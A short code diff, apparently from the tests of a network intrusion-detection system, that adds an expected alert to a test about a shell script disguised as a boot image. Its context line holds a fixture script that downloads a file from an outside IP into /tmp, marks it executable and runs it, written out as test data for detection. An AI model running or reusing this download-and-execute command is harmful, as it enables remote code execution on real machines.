@@ -63,7 +63,7 @@ SCRIPT = b"#!/bin/sh\nwget -O /tmp/x http://45.83.20.10/x && chmod +x /tmp/x && 
             Notice("Disguised_Image", DEVICE, BOOT_SERVER, IMAGE),
             Notice("Modified_Image", DEVICE, BOOT_SERVER, IMAGE),
         ),
-        alerts=(Alert(1542123001, "10.0.0.5", "10.0.1.1"),),
+        alerts=(Alert(1542121000, "10.0.0.5", "10.0.1.1"), Alert(1542123001, "10.0.0.5", "10.0.1.1")),
     ),
 )
 def bw23_script_as_image(wire: Wire) -> None:
